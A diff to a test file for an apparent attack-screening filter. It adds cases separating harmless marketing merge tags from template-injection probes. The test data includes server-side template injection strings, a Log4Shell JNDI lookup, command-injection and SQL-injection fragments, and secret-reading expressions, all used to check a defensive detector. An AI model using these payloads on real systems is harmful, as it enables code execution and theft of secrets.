@@ -124,6 +124,18 @@ describe('unexpanded macro placeholders (ad servers, tag managers)', () => {
       expect(mayCarryAttack(text), text).toBe(false);
     }
   });
+  it("does not send a marketing tool's unexpanded merge tag to the model", () => {
+    for (const text of ['{{contact.id}}', '{{ customer.first_name }}', '{{person.email}}', '{{order.shipping.city}}']) {
+      expect(isMacroPlaceholder(text), text).toBe(true);
+      expect(mayCarryAttack(text), text).toBe(false);
+    }
+  });
+  it("still screens template probes dressed as merge tags: the engine's state, secrets, calls, underscores", () => {
+    for (const text of ['{{config.items}}', '{{request.environ}}', '{{settings.secret_key}}', '{{app.config.x}}', '{{self.__init__}}', '{{user.password}}', '{{config.items()}}', '{{contact.id}}|id', '{{ contact.id }}{{7*7}}', '{{craft.app.config.general.securityKey}}', '{{lipsum.globals}}', '{{x._y}}']) {
+      expect(isMacroPlaceholder(text), text).toBe(false);
+      expect(mayCarryAttack(text), text).toBe(true);
+    }
+  });
   it('still screens in lookups, expressions, lower-case names and anything around the braces', () => {
     for (const text of ['${jndi:ldap://203.0.113.9/a}', '{{config}}', '${7*7}', '${IFS}cat', '{{SITE_ID}}|id', '${env:AWS_SECRET}', '[X] or 1=1', '${T(java.lang.Runtime)}', '{{7*7}}', `\${${'A'.repeat(60)}}`]) {
       expect(isMacroPlaceholder(text), text).toBe(false);
